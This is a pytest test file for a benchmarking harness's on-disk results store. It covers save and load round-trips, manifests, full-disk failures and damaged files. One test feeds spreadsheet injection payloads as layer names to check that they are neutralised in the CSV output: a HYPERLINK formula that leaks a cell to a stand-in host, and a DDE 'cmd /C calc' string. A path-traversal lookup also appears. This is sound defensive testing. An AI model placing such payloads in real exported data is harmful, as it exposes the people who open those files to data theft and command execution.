"""Results on disk: what is stored is what is loaded, wholly or not at all."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import msgspec
import pytest
import result_maker

from harness import isa, store
from harness.errors import EXIT_NOT_MEASURED, BadInputError, HarnessError
from harness.result import SCHEMA, Result

FILES = {"firmware.elf", "functions.csv", "layers.csv", "manifest.json", "result.json", "uart.log"}


@pytest.fixture
def elf(tmp_path: Path) -> Path:
    path = tmp_path / "built.elf"
    path.write_bytes(b"\x7fELF and more")
    return path


@pytest.fixture(autouse=True)
def runs(results: Path) -> Path:
    return results / "runs"


def save(elf: Path, run: Result | None = None, uart: str = "@end status=0\n") -> Result:
    return store.save(run or result_maker.result(), elf, uart, ("harness", "run", "kws.tflite"))


def named(name: str) -> Result:
    return result_maker.result(run_id=name)


def test_what_is_stored_is_what_is_loaded(elf: Path, runs: Path) -> None:
    made = result_maker.result()
    stored = save(elf, made, uart="@begin é \r\n")
    folder = runs / made.run_id
    assert {path.name for path in folder.iterdir()} == FILES
    assert stored == store.load(made.run_id)
    assert msgspec.structs.replace(stored, artifacts=made.artifacts) == made
    for path in filter(None, msgspec.structs.astuple(stored.artifacts)):
        assert Path(path).is_absolute()
        assert Path(path).parent == folder
    assert Path(stored.artifacts.elf).read_bytes() == elf.read_bytes()
    assert Path(stored.artifacts.uart_log).read_bytes() == "@begin é \r\n".encode()


def test_the_stored_file_holds_no_path_of_this_machine(elf: Path, runs: Path) -> None:
    save(elf)
    content = (runs / result_maker.result().run_id / "result.json").read_text()
    assert str(runs) not in content
    assert json.loads(content)["artifacts"]["elf"] == "firmware.elf"


def test_the_same_run_again_has_the_same_bytes(elf: Path, runs: Path) -> None:
    folder = runs / save(elf).run_id
    first = {name: (folder / name).read_bytes() for name in FILES - {"manifest.json"}}
    (folder / "left over").touch()
    save(elf)
    assert {name: (folder / name).read_bytes() for name in FILES - {"manifest.json"}} == first
    assert {path.name for path in folder.iterdir()} == FILES
    assert {path.name for path in runs.iterdir()} == {folder.name, ".lock"}


def test_the_manifest_names_every_other_file_with_its_hash(elf: Path, runs: Path) -> None:
    before = datetime.now(UTC) - timedelta(seconds=1)
    run = save(elf)
    manifest = msgspec.json.decode((runs / run.run_id / "manifest.json").read_bytes(), type=store.Manifest)
    assert (manifest.schema, manifest.run_id, manifest.command) == (
        SCHEMA,
        run.run_id,
        ("harness", "run", "kws.tflite"),
    )
    assert before <= datetime.fromisoformat(manifest.created) <= datetime.now(UTC)
    assert manifest.files == {
        name: hashlib.sha256((runs / run.run_id / name).read_bytes()).hexdigest() for name in FILES - {"manifest.json"}
    }


class FullDisk:
    """Lets some writes through, then fails the next one as a full disk does."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, allowed: int) -> None:
        self.left = allowed
        for owner, name in ((shutil, "copyfile"), (Path, "write_text"), (Path, "write_bytes"), (Path, "replace"),
                            (Path, "rename")):  # fmt: skip
            monkeypatch.setattr(owner, name, self.limited(getattr(owner, name)))

    def limited(self, original: object) -> object:
        def write(*arguments: object, **options: object) -> object:
            self.left -= 1
            if self.left == -1:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return original(*arguments, **options)  # type: ignore[operator]

        return write


# ELF, console, two tables, result, manifest and its move, the earlier run out of the way, the new one in place.
STEPS = 9


@pytest.mark.parametrize("allowed", range(STEPS))
def test_a_full_disk_leaves_the_earlier_run_and_nothing_else(
    elf: Path, runs: Path, monkeypatch: pytest.MonkeyPatch, allowed: int
) -> None:
    earlier = save(elf)
    with monkeypatch.context() as patch:
        FullDisk(patch, allowed)
        with pytest.raises(HarnessError, match=r"cannot store the run in .*runs: No space left on device") as caught:
            save(elf, result_maker.result(kernels="reference"), uart="another")
    assert caught.value.exit_code == EXIT_NOT_MEASURED
    assert "HARNESS_RESULTS" in (caught.value.hint or "")
    assert {path.name for path in runs.iterdir()} == {earlier.run_id, ".lock"}
    assert store.load(earlier.run_id) == earlier
    assert {path.name for path in (runs / earlier.run_id).iterdir()} == FILES


def test_the_steps_of_a_full_disk_are_all_of_them(elf: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    save(elf)
    disk = FullDisk(monkeypatch, STEPS)
    save(elf, uart="another")
    assert disk.left == 0


def test_the_same_run_again_is_there_all_the_time(elf: Path, runs: Path) -> None:
    """Only the manifest, which says when it was stored, is replaced, in one step."""
    earlier = save(elf)
    before = (runs / earlier.run_id / "result.json").stat().st_ino
    folder = (runs / earlier.run_id).stat().st_ino
    save(elf)
    assert (runs / earlier.run_id).stat().st_ino == folder
    assert (runs / earlier.run_id / "result.json").stat().st_ino == before
    assert {path.name for path in (runs / earlier.run_id).iterdir()} == FILES


def test_a_results_folder_that_cannot_be_made(elf: Path, results: Path) -> None:
    results.write_text("a file is in the way")
    with pytest.raises(HarnessError, match="cannot store the run in"):
        save(elf)
    assert results.read_text() == "a file is in the way"


def test_an_interrupted_run_is_none(elf: Path, runs: Path) -> None:
    run = save(elf)
    (runs / run.run_id / "manifest.json").unlink()
    assert store.stored() == ()
    with pytest.raises(BadInputError, match=f"no stored run '{run.run_id}'"):
        store.load(run.run_id)


def test_runs_are_found_by_id_part_and_folder(elf: Path, runs: Path) -> None:
    for name in ("kws-rp2040", "kws-rp2040-nofpu", "ad-rp2040"):
        save(elf, named(name))
    assert store.load("kws-rp2040").run_id == "kws-rp2040"  # the whole id of one, and a part of another
    assert store.load("nofpu").run_id == "kws-rp2040-nofpu"
    assert store.load(str(runs / "ad-rp2040")).run_id == "ad-rp2040"
    assert store.load(f"{runs}/ad-rp2040/").run_id == "ad-rp2040"


@pytest.mark.parametrize(
    ("wanted", "message"),
    [
        ("rp2040", "'rp2040' is ambiguous: 2 runs match"),
        ("", "'' is ambiguous: 2 runs match"),
        ("nowhere", "no stored run 'nowhere'"),
        ("../runs", "no stored run '../runs'"),
        (".lock", "no stored run '.lock'"),
        ("x" * 300, "no stored run 'xxx"),
        ("a\0b", "no stored run 'a"),
    ],
)
def test_runs_that_are_not_found(elf: Path, wanted: str, message: str) -> None:
    for name in ("kws-rp2040", "ad-rp2040"):
        save(elf, named(name))
    with pytest.raises(BadInputError, match=message) as caught:
        store.load(wanted)
    assert caught.value.hint


def test_no_runs_at_all() -> None:
    assert store.stored() == ()
    with pytest.raises(BadInputError, match="no stored run 'x'"):
        store.load("x")


def test_runs_are_listed_the_newest_first(elf: Path, runs: Path) -> None:
    for name, created in (("a", "2026-01-02T00:00:00+00:00"), ("b", "2026-03-01T00:00:00+00:00"),
                          ("c", "2026-02-01T00:00:00+00:00")):  # fmt: skip
        save(elf, named(name))
        manifest = runs / name / "manifest.json"
        manifest.write_text(json.dumps(json.loads(manifest.read_text()) | {"created": created}))
    assert [item.run_id for item in store.stored()] == ["b", "c", "a"]
    assert store.stored()[0].created == "2026-03-01T00:00:00+00:00"
    assert store.stored()[0].result == store.load("b")


def test_a_result_of_a_newer_version_is_refused_even_where_it_could_be_read(elf: Path, runs: Path) -> None:
    run = save(elf)
    file = runs / run.run_id / "result.json"
    newer = json.loads(file.read_text()) | {"schema": "tflm-harness/run/3"}
    for content in (newer, {"schema": "tflm-harness/run/3", "all": "new"}):
        file.write_text(json.dumps(content))
        with pytest.raises(
            BadInputError, match="stored with schema 'tflm-harness/run/3', this version reads"
        ) as caught:
            store.load(run.run_id)
        assert caught.value.hint == "update the harness"


DAMAGE = [
    b"",
    b"{",
    b"[]",
    b"null",
    b"\xff\xfe{}",
    b'{"schema": "tflm-harness/run/2"}',
    b'{"schema": "\xff"}',
    b"{}" * 2,
]


@pytest.mark.parametrize("content", DAMAGE)
def test_a_damaged_result_is_refused_by_name(elf: Path, runs: Path, content: bytes) -> None:
    run = save(elf)
    (runs / run.run_id / "result.json").write_bytes(content)
    with pytest.raises(BadInputError, match=r"result\.json"):
        store.load(run.run_id)


@pytest.mark.parametrize("content", DAMAGE)
@pytest.mark.parametrize("name", ["manifest.json", "result.json"])
def test_a_damaged_run_is_listed_last_with_the_reason(elf: Path, runs: Path, name: str, content: bytes) -> None:
    save(elf, named("z"))
    save(elf, named("a"))
    (runs / "z" / name).write_bytes(content)
    whole, damaged = store.stored()
    assert (whole.run_id, whole.damage, damaged.run_id, damaged.result) == ("a", None, "z", None)
    assert name in (damaged.damage or "")


def test_a_run_without_its_result(elf: Path, runs: Path) -> None:
    run = save(elf)
    (runs / run.run_id / "result.json").unlink()
    with pytest.raises(BadInputError, match=r"no complete run \(result\.json is missing\)"):
        store.load(run.run_id)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("", ""),
        ("model/conv;Relu", "model/conv;Relu"),
        ('a,b"c', 'a,b"c'),
        ("a=b", "a=b"),
        ("ünï", "ünï"),
        ('=HYPERLINK("http://x.test?"&A1,"click")', '\'=HYPERLINK("http://x.test?"&A1,"click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "\ufffd=1"),
        ("\r=1", "\ufffd=1"),
        ("two\nlines\x1b[2J", "two\ufffdlines\ufffd[2J"),
    ],
)
def test_a_name_is_one_cell_and_no_formula(elf: Path, name: str, cell: str) -> None:
    layers = (result_maker.layer(0, "CONV_2D", 900, 1000, macs=300, name=name),)
    function = msgspec.structs.replace(result_maker.result().functions[0], name=name)
    run = save(elf, result_maker.result(layers, functions=(function,)))
    for path, column in ((run.artifacts.layers_csv, "name"), (run.artifacts.functions_csv, "function")):
        with Path(path).open(newline="", encoding="utf-8") as file:
            (row,) = csv.DictReader(file)
        assert row[column] == cell


def test_tables_hold_the_results_numbers(elf: Path) -> None:
    made = result_maker.result()
    rows = list(csv.DictReader(io.StringIO(store.layers_csv(made))))
    assert [int(row["instructions"]) for row in rows] == [900, 90]
    for row, layer in zip(rows, made.layers, strict=True):
        assert {name: int(row[name]) for name in isa.CLASSES} == layer.classes
        assert row["output_shape"] == "1x8x8x16"
    assert [row["instructions_per_mac"] for row in rows] == ["3.0", ""]  # no MACs: nothing, and not 0
    functions = list(csv.DictReader(io.StringIO(store.functions_csv(made.functions or ()))))
    assert [int(row["instructions"]) for row in functions] == [990]


def test_names_beyond_ascii_are_stored_in_any_locale(elf: Path, runs: Path) -> None:
    program = (
        "import sys; sys.path.insert(0, sys.argv[1]); import pathlib, result_maker; from harness import store;"
        "layer = result_maker.layer(0, 'CONV_2D', 900, 1000, name='d\\xe9j\\xe0');"
        "store.save(result_maker.result((layer,)), pathlib.Path(sys.argv[2]), '\\xe9', ())"
    )
    latin = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONPATH": os.pathsep.join(sys.path)}
    subprocess.run([sys.executable, "-c", program, Path(__file__).parent, elf], env={**os.environ, **latin}, check=True)
    (folder,) = (path for path in runs.iterdir() if path.is_dir())
    assert "déjà" in (folder / "layers.csv").read_text(encoding="utf-8")
    assert (folder / "uart.log").read_text(encoding="utf-8") == "é"


def test_a_run_without_functions_and_with_a_log(elf: Path) -> None:
    """As of an emulator that counts instructions only."""
    whole = result_maker.result()
    made = msgspec.structs.replace(
        whole,
        layers=tuple(msgspec.structs.replace(item, classes=None, functions=None) for item in whole.layers),
        functions=None,
        counts=msgspec.structs.replace(whole.counts, classes=None),
        artifacts=msgspec.structs.replace(store.ARTIFACTS, functions_csv=None, emulator_log=store.EMULATOR_LOG),
    )
    stored = store.save(made, elf, "", ("harness",), "machine started\n")
    assert {path.name for path in Path(stored.artifacts.elf).parent.iterdir()} == (FILES - {"functions.csv"}) | {
        "emulator.log"
    }
    assert stored.artifacts.functions_csv is None
    assert Path(stored.artifacts.emulator_log or "").read_text() == "machine started\n"
    rows = list(csv.DictReader(io.StringIO(Path(stored.artifacts.layers_csv).read_text())))
    assert [row["alu"] for row in rows] == ["", ""]
    assert store.load(stored.run_id) == stored
